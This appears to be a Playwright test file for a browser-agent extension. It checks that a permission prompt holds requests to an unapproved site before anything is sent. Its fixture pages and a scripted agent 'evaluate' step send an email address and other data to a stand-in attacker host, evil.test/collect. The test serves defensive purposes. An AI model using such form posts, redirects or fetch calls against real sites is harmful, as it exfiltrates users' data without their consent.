// Asked before the request leaves (decision 0025): a form's POST, a redirect, a page script's navigation and a
// script the agent evaluates never reach a site the person has not allowed before they answered, and nothing at all
// after a Deny. Chromium maps *.test to the fixture server, so shop.test and evil.test are two origins of one server;
// the host log keeps every request with the host it went to.

import type { Page } from 'playwright-core';
import type { AgentEvent } from '../../src/panel/agent/task/events';
import { hostLog, permissionBox } from '../support/perm-sites';
import {
  act,
  control,
  describe,
  type ExtensionHarness,
  expect,
  giveUp,
  it,
  openTab,
  outcomes,
  type PanelGlobal,
  play,
  type Route,
  runTask,
  test,
  useKit,
} from './kit';

const log = hostLog();
/** The method of each request that reached evil.test's /collect, in order. */
const collected: string[] = [];

/** The pages of this file, written with the port the request came in on, so their links name evil.test's. */
const pages: Route = (req, res, url) => {
  const host = req.headers.host ?? '';
  const port = host.split(':')[1] ?? '';
  const evil = `http://evil.test:${port}`;
  const html = (body: string) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
    res.end(`<!doctype html><html><head><title>Shop</title></head><body>${body}</body></html>`);
    return true;
  };
  if (url.pathname === '/collect') {
    collected.push(`${req.method} ${host}${url.search}`);
    return html('<h1>Collected</h1><p>Thank you, your details were received.</p>');
  }
  if (url.pathname === '/prereq/form.html') {
    return html(
      `<h1>Newsletter</h1><form method="post" action="${evil}/collect"><label>Email <input name="email" ` +
        'value="ann@example.com"></label><button type="submit">Subscribe</button></form>',
    );
  }
  if (url.pathname === '/prereq/redirect-link.html') {
    return html(
      `<h1>Offers</h1><a href="/redirect?to=${encodeURIComponent(`${evil}/collect?email=x`)}">See the offer</a>`,
    );
  }
  if (url.pathname === '/prereq/script-nav.html') {
    return html(
      `<h1>Basket</h1><button type="button" onclick="location.href='${evil}/collect?via=script'">Continue</button>`,
    );
  }
  if (url.pathname === '/prereq/script-post.html') {
    // The page posts by script: its button is no submit button, so only the network hold can stop it.
    return html(
      `<h1>Reviews</h1><form method="post" action="${evil}/collect"><input type="hidden" name="email" ` +
        'value="ann@example.com"></form><button type="button" onclick="document.forms[0].submit()">Post my review' +
        '</button>',
    );
  }
  if (url.pathname === '/prereq/news.html') return html('<h1>News</h1><p>Reviews of the week</p>');
  if (url.pathname === '/prereq/plain.html') return html('<h1>Order 4411</h1><p>Status: packed</p>');
  return false;
};

useKit({ hostResolverRules: 'MAP *.test 127.0.0.1', routes: [log.route, pages] });

test.beforeEach(async ({ browser }) => {
  log.requests.length = 0;
  collected.length = 0;
  // The newsletter form is a POST whose purpose the consent gate cannot tell, so it would ask first (decision 0026):
  // the shop acts without asking here, and what this file checks is the site question, which still comes.
  await browser.panel.evaluate(() =>
    (globalThis as PanelGlobal).steadyhand.settings.getState().update({ actWithoutAskingSites: ['shop.test'] }),
  );
});

test.afterEach(async ({ browser }) => {
  await browser.panel.evaluate(async () => {
    const own = chrome.runtime.getURL('');
    const tabs = await chrome.tabs.query({});
    const ids = tabs.flatMap((t) => (t.id !== undefined && !(t.url ?? '').startsWith(own) ? [t.id] : []));
    if (ids.length > 0) await chrome.tabs.remove(ids);
    (globalThis as PanelGlobal).steadyhand.settings
      .getState()
      .update({ allowScript: false, actWithoutAskingSites: [] });
  });
});

const ofType = <T extends AgentEvent['type']>(events: AgentEvent[], type: T) =>
  events.filter((e): e is Extract<AgentEvent, { type: T }> => e.type === type);

async function shopTab(browser: ExtensionHarness, url: string): Promise<void> {
  const { page } = await openTab(browser, url);
  await page.bringToFront();
}

/** No session rule is left once a task ended. */
const sessionRules = (panel: Page) =>
  panel.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).length);

describe('asked before the request leaves', () => {
  it('a form posting to evil.test: asked before anything is sent; Deny sends nothing and the model gets not_allowed', async ({
    browser,
    site,
    model,
    panel,
  }) => {
    const evil = `http://evil.test:${site.port}`;
    await shopTab(browser, `http://shop.test:${site.port}/prereq/form.html`);
    const seen = play(model, (s) => {
      if (s.index === 0) return act('click', { ref: control(s, 'button', /subscribe/i).ref });
      return giveUp('The person did not allow evil.test.');
    });

    const running = runTask(panel, 'Subscribe me to the newsletter');
    const ask = permissionBox(panel);
    await ask.box.waitFor();
    expect(await ask.origin.textContent()).toBe(evil);
    expect(await ask.why.textContent()).toContain(`It wants to submit a form to ${evil}/collect`);
    expect(log.to(evil, '/')).toEqual([]);
    await ask.deny.click();
    const { result, events } = await running;

    expect(result).toMatchObject({ status: 'failed' });
    expect(outcomes(events)).toEqual([
      ['click', 'execute_error'],
      ['done', 'done_accepted'],
    ]);
    expect(seen[1]?.results[0]?.text).toContain(`not_allowed: it would go to ${evil}`);
    expect(log.to(evil, '/')).toEqual([]);
    expect(collected).toEqual([]);
    expect(await sessionRules(panel)).toBe(0);
  });

  it('the same form, Allow once: the POST arrives once', async ({ browser, site, model, panel }) => {
    const evil = `http://evil.test:${site.port}`;
    await shopTab(browser, `http://shop.test:${site.port}/prereq/form.html`);
    play(model, (s) => {
      if (s.index === 0) return act('click', { ref: control(s, 'button', /subscribe/i).ref });
      if (s.text.includes('your details were received')) {
        return act('done', {
          success: true,
          answer: 'Subscribed.',
          evidence: { quotes: ['Thank you, your details were received.'] },
        });
      }
      return giveUp(`Unexpected observation: ${s.text.slice(0, 200)}`);
    });

    const running = runTask(panel, 'Subscribe me to the newsletter');
    const ask = permissionBox(panel);
    await ask.box.waitFor();
    expect(collected).toEqual([]);
    await ask.allowOnce.click();
    const { result, events } = await running;

    expect(result, `${result.summary} ${JSON.stringify(ofType(events, 'tool_result'))}`).toMatchObject({
      status: 'succeeded',
    });
    expect(outcomes(events)[0]).toEqual(['click', 'ok']);
    expect(collected).toEqual([`POST evil.test:${site.port}`]);
    expect(log.to(evil, '/collect')).toHaveLength(1);
    expect(ofType(events, 'permission_request')).toHaveLength(1);
    expect(ofType(events, 'consent_decided')).toMatchObject([{ by: 'act_without_asking' }]);
  });

  it('a same-origin link that redirects to evil.test: held before the request; Deny sends nothing at all', async ({
    browser,
    site,
    model,
    panel,
  }) => {
    const shop = `http://shop.test:${site.port}`;
    const evil = `http://evil.test:${site.port}`;
    await shopTab(browser, `${shop}/prereq/redirect-link.html`);
    const seen = play(model, (s) => {
      if (s.index === 0) return act('click', { ref: control(s, 'link', /see the offer/i).ref });
      return giveUp('The person did not allow evil.test.');
    });

    const running = runTask(panel, 'Look at the offer');
    const ask = permissionBox(panel);
    await ask.box.waitFor();
    expect(await ask.why.textContent()).toContain(`The page on ${shop} tried to go to ${evil}/collect?email=x`);
    // The redirect itself was asked for; where it leads was not.
    expect(log.to(shop, '/redirect')).toHaveLength(1);
    expect(log.to(evil, '/')).toEqual([]);
    await ask.deny.click();
    const { result } = await running;

    expect(result).toMatchObject({ status: 'failed' });
    expect(log.to(evil, '/')).toEqual([]);
    expect(JSON.stringify(seen[1]?.request.body)).toContain(`tried to go to ${evil}: not_allowed`);
    expect(seen[1]?.url).toContain('/prereq/redirect-link.html');
    expect(await sessionRules(panel)).toBe(0);
  });

  it('a page script sends the tab to evil.test after the click: held and asked; Allow once loads it once', async ({
    browser,
    site,
    model,
    panel,
  }) => {
    const shop = `http://shop.test:${site.port}`;
    const evil = `http://evil.test:${site.port}`;
    await shopTab(browser, `${shop}/prereq/script-nav.html`);
    play(model, (s) => {
      if (s.index === 0) return act('click', { ref: control(s, 'button', /continue/i).ref });
      if (s.text.includes('your details were received')) {
        return act('done', {
          success: true,
          answer: 'Done.',
          evidence: { quotes: ['Thank you, your details were received.'] },
        });
      }
      return giveUp(`Unexpected observation: ${s.text.slice(0, 200)}`);
    });

    const running = runTask(panel, 'Continue to the next page');
    const ask = permissionBox(panel);
    await ask.box.waitFor();
    expect(await ask.why.textContent()).toContain(`The page on ${shop} tried to go to ${evil}/collect?via=script`);
    expect(log.to(evil, '/')).toEqual([]);
    await ask.allowOnce.click();
    const { result, events } = await running;

    expect(result, `${result.summary} ${JSON.stringify(ofType(events, 'tool_result'))}`).toMatchObject({
      status: 'succeeded',
    });
    expect(collected).toEqual([`GET evil.test:${site.port}?via=script`]);
  });

  it('with script evaluation on, a script’s fetch to evil.test never reaches it', async ({
    browser,
    site,
    model,
    panel,
  }) => {
    const evil = `http://evil.test:${site.port}`;
    await panel.evaluate(() =>
      (globalThis as PanelGlobal).steadyhand.settings.getState().update({ allowScript: true }),
    );
    await shopTab(browser, `http://shop.test:${site.port}/prereq/plain.html`);
    const seen = play(model, (s) => {
      if (s.index === 0) {
        return act('evaluate', {
          script: `return fetch('${evil}/x', { mode: 'no-cors' }).then(() => 'sent', (e) => 'failed: ' + e.message)`,
        });
      }
      return giveUp('Done looking.');
    });

    const { events } = await runTask(panel, 'Check the order status');

    expect(outcomes(events)[0]).toEqual(['evaluate', 'ok']);
    expect(JSON.stringify(seen[1]?.results)).toContain('failed: Failed to fetch');
    expect(log.to(evil, '/')).toEqual([]);
    expect(await sessionRules(panel)).toBe(0);
  });

  it('a site allowed to read only is loaded, but a form the page posts there is held and asked about to act', async ({
    browser,
    site,
    model,
    panel,
  }) => {
    const shop = `http://shop.test:${site.port}`;
    const evil = `http://evil.test:${site.port}`;
    await shopTab(browser, `${shop}/prereq/script-post.html`);
    play(model, (s) => {
      if (s.index === 0) return act('open_url', { url: `${evil}/prereq/news.html` });
      if (s.index === 1) return act('go_back', {});
      if (s.index === 2) return act('click', { ref: control(s, 'button', /post my review/i).ref });
      return giveUp('The person kept evil.test read only.');
    });

    const running = runTask(panel, 'Read the news, then post my review');
    const ask = permissionBox(panel);
    await ask.box.waitFor();
    await ask.readOnly.click();
    // Loaded to be read: a GET went there.
    await expect.poll(() => log.to(evil, '/prereq/news.html')).toHaveLength(1);
    await expect.poll(() => ask.why.textContent()).toContain(`The page on ${shop} tried to go to ${evil}/collect`);
    expect(collected).toEqual([]);
    await ask.deny.click();
    const { result, events } = await running;

    expect(result).toMatchObject({ status: 'failed' });
    expect(ofType(events, 'permission_request')).toHaveLength(2);
    expect(collected).toEqual([]);
    expect(log.to(evil, '/collect')).toEqual([]);
  });
});
